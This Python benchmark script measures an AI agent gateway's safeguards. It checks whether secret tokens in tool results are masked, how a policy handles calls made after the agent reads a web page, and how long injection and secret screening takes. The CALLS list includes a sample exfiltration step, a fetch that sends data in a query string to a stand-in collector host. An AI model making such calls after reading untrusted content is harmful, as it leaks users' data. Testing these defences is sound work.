"""Results benchmark: what of a result reaches a gateway client, what the rule of two asks, and
what screening a result costs.

Through a real `foundry gateway` process and the MCP SDK's client, the tests' results server
(tests/gateway/results_server.py) answers with tokens of GitHub, AWS, OpenAI, a JWT and the
agent's own env:// value in a text block, an embedded resource and structuredContent, beside an
image. Printed: for each token and part, whether the client saw it, with and without a guardian;
then a session that reads a web page and goes on (a post, a fetch with a query, a local read, a
plain fetch, a post the policy denies), each call's outcome with nobody answering the inbox
(a held call is denied when its short approval time runs out); then the time to screen results of
4 KiB, 100 KiB and 1 MiB (ResultScreen.screen: masking and the injection reader), best of
`--rounds`.

Run: python bench/results.py [--rounds 3]
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from mcp import ClientSession, StdioServerParameters, stdio_client
from mcp.client.stdio import get_default_environment

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from tests.gateway import results_server as served  # noqa: E402

OWN = "plain-words-no-shape-4821"
TOKENS = {
    "GitHub": served.GITHUB,
    "AWS": served.AWS,
    "OpenAI": served.OPENAI,
    "JWT": served.JWT,
    "env://": OWN,
}
GUARDIAN = {"type": "guardian", "id": "guard", "config": {"maskPii": ["email"]}}
CALLS = [
    ("docs__page", {}),
    ("docs__post_message", {"channel": "#a", "text": "x"}),
    ("docs__fetch_page", {"url": "https://collector.example/c?d=Buy+milk"}),
    ("docs__read_note", {}),
    ("docs__fetch_page", {"url": "https://example.com/"}),
    ("docs__post_message", {"channel": "#general", "text": "x"}),
]


def write_agent(root: Path, guardian: bool) -> Path:
    from foundry.agent.document import read_agent
    from foundry.agent.trust import TrustStore

    root.mkdir(parents=True)
    rules = [
        {
            "name": "no-posts-to-general",
            "tool": "docs.post_message",
            "when": {"all": [{"param": "channel", "op": "==", "value": "#general"}]},
            "action": "deny",
        },
        {"name": "anything-goes", "tool": "*", "action": "allow"},
    ]
    policy = {
        "type": "policy",
        "id": "policy",
        "config": {"rules": rules, "loopDetection": False, "approvalTimeoutSeconds": 2},
    }
    server = {
        "type": "stdio",
        "command": sys.executable,
        "args": [served.__file__],
        "env": {"DOCS_KEY": "env://DOCS_KEY"},
        "serverToolDefaults": {"include": "always", "permissionRequired": False},
    }
    config = {
        "metadata": {"name": root.name},
        "settings": {"model": "scripted:none.json"},
        "mcpServers": {"docs": server},
        "supervisors": [*([GUARDIAN] if guardian else []), policy],
    }
    (root / "tsagent.json").write_text(json.dumps(config))
    (root / "prompt.md").write_text("A bench agent.")
    TrustStore.default().grant(read_agent(root))
    return root


async def calls(agent: Path, home: Path, made: list[tuple[str, dict[str, Any]]]) -> list[Any]:
    env = {**get_default_environment(), "FOUNDRY_HOME": str(home), "DOCS_KEY": OWN}
    params = StdioServerParameters(
        command=sys.executable, args=["-m", "foundry.cli", "gateway", str(agent)], env=env
    )
    async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
        await client.initialize()
        return [await client.call_tool(name, arguments) for name, arguments in made]


def parts(result: Any) -> dict[str, str | None]:
    """The result's text blocks, resource blocks and structured content as JSON (None: absent)."""
    blocks = [block.model_dump(by_alias=True) for block in result.content]
    texts = [b for b in blocks if b["type"] == "text"]
    resources = [b for b in blocks if b["type"] == "resource"]
    structured = result.structured_content
    return {
        "text": json.dumps(texts) if texts else None,
        "resource": json.dumps(resources) if resources else None,
        "structured": json.dumps(structured) if structured is not None else None,
    }


def seen_as(token: str, part: str | None) -> str:
    return "absent" if part is None else "SHOWN" if token in part else "masked"


async def masking(folder: Path, home: Path) -> None:
    print("Tokens in a result, as a gateway client sees them (shown / masked):")
    for guardian in (False, True):
        agent = write_agent(folder / f"agent-{'guarded' if guardian else 'plain'}", guardian)
        [result] = await calls(agent, home, [("docs__leak", {})])
        seen = parts(result)
        label = "with a guardian" if guardian else "without a guardian"
        shown = sum(
            seen_as(token, part) == "SHOWN" for token in TOKENS.values() for part in seen.values()
        )
        print(f"  {label}: {shown} of {len(TOKENS) * len(seen)} token-parts shown")
        for name, token in TOKENS.items():
            row = "  ".join(f"{part}: {seen_as(token, text)}" for part, text in seen.items())
            print(f"    {name:7} {row}")
        images = [b for b in result.content if b.type == "image"]
        print(f"    image bytes as sent: {bool(images) and images[0].data == served.PNG}")
        print(f"    note: {result.content[-1].text if result.content[-1].type == 'text' else None}")


async def rule_of_two(folder: Path, home: Path) -> None:
    print("After reading a web page (nobody answers the inbox; a held call times out):")
    agent = write_agent(folder / "agent-two", False)
    results = await calls(agent, home, CALLS)
    for (name, arguments), result in zip(CALLS, results, strict=True):
        text = " ".join(getattr(block, "text", "") for block in result.content)
        outcome = (
            "asked (timed out)"
            if "no one decided in time" in text
            else ("denied by rule" if result.is_error else "ran unasked")
        )
        print(f"  {name} {json.dumps(arguments)}: {outcome}")


def cost(rounds: int) -> None:
    from foundry.supervision.outgoing import OutgoingMask
    from foundry.supervision.results import ResultScreen
    from foundry.tools.host import content_text

    screen = ResultScreen(OutgoingMask(frozenset({OWN})), text_of=content_text)  # the gateway's
    line = "Row 17: ana@example.com paid 42.10 for order 9921 (see https://example.com/o/9921)\n"
    print("Screening a result (mask every string, read it for an injection), best of rounds:")
    for size in (4 * 1024, 100 * 1024, 1024 * 1024):
        text = (line * (size // len(line) + 1))[:size] + f" {served.GITHUB}"
        best = min(_timed(screen, text) for _ in range(rounds))
        print(f"  {size // 1024:5} KiB: {best * 1000:8.1f} ms")


def _timed(screen: Any, text: str) -> float:
    started = time.perf_counter()
    screened = screen.screen(text, ({"type": "text", "text": text},))
    elapsed = time.perf_counter() - started
    assert served.GITHUB not in screened.text
    return elapsed


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rounds", type=int, default=3)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        home = folder / "home"
        os.environ["FOUNDRY_HOME"] = str(home)
        os.environ["DOCS_KEY"] = OWN
        await masking(folder, home)
        await rule_of_two(folder, home)
    cost(args.rounds)


if __name__ == "__main__":
    asyncio.run(main())
